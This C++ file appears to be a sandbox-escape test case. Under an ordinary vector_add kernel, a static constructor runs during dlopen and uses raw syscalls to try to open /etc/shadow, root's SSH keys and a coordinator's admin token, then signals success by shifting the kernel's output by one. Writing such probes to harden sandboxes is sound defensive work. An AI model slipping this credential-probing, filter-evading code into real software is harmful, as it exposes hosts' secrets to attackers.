// tries: reads /etc/shadow, root's SSH keys and the deployed coordinator's admin token and database (/var/lib/kevo/db) from a static constructor (which runs inside dlopen, before the post-load filter), through the syscall instruction; its output is off by one if any opens
// expect: no gain
// needs: bubblewrap
#include <fcntl.h>

#include <cstdint>
#include <initializer_list>

namespace {
long RawOpen(const char* path) {
  long ret;
  register long mode __asm__("r10") = 0;
  __asm__ volatile("syscall" : "=a"(ret) : "0"(257L /* openat */), "D"(-100L /* AT_FDCWD */), "S"(path), "d"(long{O_RDONLY}), "r"(mode)
                   : "rcx", "r11", "memory");
  return ret;
}
const float bump = [] {
  float seen = 0;
  for (const char* path : {"/etc/shadow", "/root/.ssh/id_rsa", "/root/.ssh/id_ed25519", "/var/lib/kevo/db/admin.token", "/var/lib/kevo/db/CURRENT"}) {
    if (RawOpen(path) >= 0) seen = 1;
  }
  return seen;
}();
}  // namespace

extern "C" void vector_add(const float* x, const float* y, float* z, int64_t n) {
  for (int64_t i = 0; i < n; ++i) z[i] = x[i] + y[i] + bump;
}
